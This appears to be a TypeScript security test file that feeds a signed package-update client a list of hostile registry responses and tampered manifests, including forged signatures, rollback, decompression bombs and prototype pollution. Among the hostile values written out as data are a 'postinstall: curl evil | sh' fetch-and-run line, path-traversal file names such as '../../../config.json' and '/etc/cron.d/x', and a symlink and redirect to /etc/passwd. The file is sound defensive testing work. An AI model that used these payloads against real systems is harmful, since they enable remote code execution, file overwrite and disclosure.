import { generateKeyPairSync } from 'node:crypto';
import { readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { writeDelta } from '../../src/adapters/delta/write-delta.ts';
import { signEnvelope, writeEnvelope, type Envelope } from '../../src/adapters/envelope.ts';
import { keyId } from '../../src/adapters/key.ts';
import type { Manifest } from '../../src/adapters/manifest.ts';
import type { PackageFolder } from '../../src/adapters/package-folder.ts';
import { pullPackage } from '../../src/adapters/pull.ts';
import { NAME, type Device } from './device.ts';

/** A device on which 1.0.0 serves, and a registry that shows 1.1.0. */
interface Scene {
  device: Device;
  one: PackageFolder;
  two: PackageFolder;
}

/** What a hostile registry, publisher or line does; then the device asks for the newest version, or does what `ask` says. */
export interface Attack {
  readonly name: string;
  act(scene: Scene): Promise<void> | void;
  ask?(scene: Scene): Promise<unknown>;
  /** It is about deltas: refused is then also a delta that is left aside for the sound file. */
  readonly onDelta?: true;
}

const DAY = 86_400_000;
const envelopePath = ({ device }: Scene, version = '1.1.0'): string =>
  join(device.root, NAME, version, 'skill.json');
const blobPath = ({ device, two }: Scene): string =>
  join(device.root, 'blobs', two.envelope.manifest.files[0]?.sha256 ?? '');
const put = (scene: Scene, envelope: unknown): void =>
  writeFileSync(envelopePath(scene), JSON.stringify(envelope));

/** The manifest is changed, and signed again by the trusted publisher: only the checks of the manifest are left. */
const signedWith = (name: string, change: (manifest: Manifest) => unknown): Attack => ({
  name,
  act(scene) {
    const { two, device } = scene;
    const manifest = change(structuredClone(two.envelope.manifest)) as Manifest;
    put(scene, signEnvelope({ manifest }, device.publisher));
  },
});
const envelopeOf = (name: string, change: (scene: Scene) => Envelope): Attack => ({
  name,
  act: (scene) => writeFileSync(envelopePath(scene), writeEnvelope(change(scene))),
});
/** The server answers this to requests whose path fits. */
const answers = (
  name: string,
  path: RegExp,
  status: number,
  headers: Record<string, string>,
  body: string | Buffer = '',
): Attack => ({
  name,
  act({ device }) {
    device.server.intercept = ({ url = '' }, response) => {
      if (!path.test(url)) return false;
      response.writeHead(status, headers).end(body);
      return true;
    };
  },
});
const onDelta = (name: string, change: (bytes: Buffer) => Uint8Array): Attack => ({
  name,
  onDelta: true,
  act({ device }) {
    const folder = join(device.root, 'deltas');
    for (const file of readdirSync(folder))
      writeFileSync(join(folder, file), change(readFileSync(join(folder, file))));
  },
});
const renamed = (name: string) => (manifest: Manifest) => ({
  ...manifest,
  files: manifest.files.map((file) => ({ ...file, name })),
  variants: manifest.variants.map((one) => ({ ...one, file: name })),
});
const stranger = generateKeyPairSync('ed25519').privateKey;
/** A version in place of 1.1.0 that its publisher signed on another day. */
const packedAt = (name: string, options: { now?: number; days?: number; name?: string }): Attack => ({
  name,
  async act(scene) {
    const made = await scene.device.pack('1.1.0', scene.two.path('adapter.gguf'), options);
    put(scene, made.envelope);
  },
});

export const ATTACKS: readonly Attack[] = [
  signedWith('path upward', renamed('../../../config.json')),
  signedWith('absolute path', renamed('/etc/cron.d/x')),
  signedWith('path of Windows', renamed(String.raw`..\..\x.gguf`)),
  signedWith('device of Windows', renamed('con.gguf')),
  signedWith('hidden file', renamed('.bashrc')),
  signedWith('two files of one name', (one) => ({
    ...one,
    files: [...one.files, ...renamed('ADAPTER.gguf')(one).files],
  })),
  signedWith('size bomb announced', (one) => ({
    ...one,
    files: one.files.map((file) => ({ ...file, bytes: 2 ** 50 })),
  })),
  signedWith('size smaller than the file', (one) => ({
    ...one,
    files: one.files.map((file) => ({ ...file, bytes: 10 })),
  })),
  signedWith('unknown schema', (one) => ({ ...one, schema: 99 })),
  signedWith('unknown members', (one) => ({ ...one, postinstall: 'curl evil | sh' })),
  signedWith('another base', (one) => ({ ...one, base: { ...one.base, sha256: 'c'.repeat(64) } })),
  signedWith('another engine', (one) => ({
    ...one,
    variants: one.variants.map((each) => ({ ...each, engine: 'shell' })),
  })),
  envelopeOf('unsigned', ({ two }) => ({ ...two.envelope, signatures: [] })),
  envelopeOf('signed by a stranger', ({ two }) =>
    signEnvelope({ manifest: two.envelope.manifest }, stranger),
  ),
  envelopeOf('a stranger under the name of the publisher', ({ two, device }) => ({
    ...two.envelope,
    signatures: [
      {
        key: keyId(device.publisher),
        signature: signEnvelope(two.envelope, stranger).signatures.at(-1)?.signature ?? '',
      },
    ],
  })),
  envelopeOf('changed after it was signed', ({ two }) => ({
    ...two.envelope,
    manifest: { ...two.envelope.manifest, licence: 'MIT' },
  })),
  envelopeOf('signature of another version', ({ one, two }) => ({
    manifest: two.envelope.manifest,
    signatures: one.envelope.signatures,
  })),
  envelopeOf('mix: files of the old version', ({ one, two }) => ({
    manifest: { ...two.envelope.manifest, files: one.envelope.manifest.files },
    signatures: two.envelope.signatures,
  })),
  envelopeOf('mix: another version in its place', ({ one }) => one.envelope),
  packedAt('mix: another skill in its place', { name: 'acme.other' }),
  packedAt('outside the scope of its signer', { name: 'beta.skill' }),
  packedAt('freeze: expired', { now: Date.now() - 100 * DAY, days: 30 }),
  packedAt('made in the future', { now: Date.now() + 30 * DAY }),
  {
    name: 'rollback: an older version is shown as the newest',
    async act({ device }) {
      await device.pull();
      writeFileSync(join(device.root, NAME, 'versions.json'), '["1.0.0"]');
    },
  },
  {
    name: 'one version, other content',
    async act({ device, one, two }) {
      const other = await device.pack('1.0.0', two.path('adapter.gguf'));
      writeFileSync(join(device.root, NAME, 'versions.json'), '["1.0.0"]');
      writeFileSync(join(device.root, NAME, '1.0.0', 'skill.json'), writeEnvelope(other.envelope));
      if (one.folder === other.folder) throw new Error('the same package');
    },
  },
  {
    name: 'other bytes of the same length',
    act: (scene) => writeFileSync(blobPath(scene), Buffer.alloc(statSync(blobPath(scene)).size, 1)),
  },
  {
    name: 'longer bytes',
    act: (scene) =>
      writeFileSync(blobPath(scene), Buffer.concat([readFileSync(blobPath(scene)), Buffer.alloc(2 ** 20)])),
  },
  {
    name: 'a link in the place of a file',
    act: (scene) => {
      rmSync(blobPath(scene));
      symlinkSync('/etc/passwd', blobPath(scene));
    },
    ask: ({ device }) => pullPackage(device.deps, { registry: device.registry, name: NAME, hosts: [] }),
  },
  onDelta('half a delta', (bytes) => bytes.subarray(0, bytes.length / 2)),
  onDelta('a delta that makes something else', () =>
    writeDelta([{ act: 'literal', bytes: Buffer.alloc(120_800, 7) }]),
  ),
  onDelta('a delta that unpacks to gigabytes', () =>
    Buffer.concat([Buffer.from('NMD1'), brotliCompressSync(Buffer.alloc(2 ** 28))]),
  ),
  onDelta('a delta longer than the file', () => Buffer.alloc(2 ** 21)),
  answers('endless bytes', /^\/blobs/, 200, {}, Buffer.alloc(8 * 2 ** 20)),
  answers('a length that lies', /^\/blobs/, 200, { 'content-length': '9' }, 'too short'),
  answers('another host', /^\/blobs/, 302, { location: 'http://localhost:1/x' }),
  answers('a file of this machine', /^\/blobs/, 302, { location: 'file:///etc/passwd' }),
  answers('a circle of redirects', /skill\.json$/, 302, { location: `/${NAME}/1.1.0/skill.json` }),
  answers('an endless list', /versions/, 200, {}, `["${'1'.repeat(2 * 2 ** 20)}"]`),
  answers('paths as versions', /versions/, 200, {}, '["../../1.1.0"]'),
  answers('an endless envelope', /skill\.json$/, 200, {}, `{"manifest": "${'x'.repeat(2 ** 21)}"}`),
  answers(
    'a bomb of brackets',
    /skill\.json$/,
    200,
    {},
    `{"manifest": ${'['.repeat(100_000)}${']'.repeat(100_000)}, "signatures": []}`,
  ),
  answers(
    'a poisoned prototype',
    /skill\.json$/,
    200,
    {},
    '{"manifest": {"__proto__": {"name": "x"}}, "signatures": []}',
  ),
];
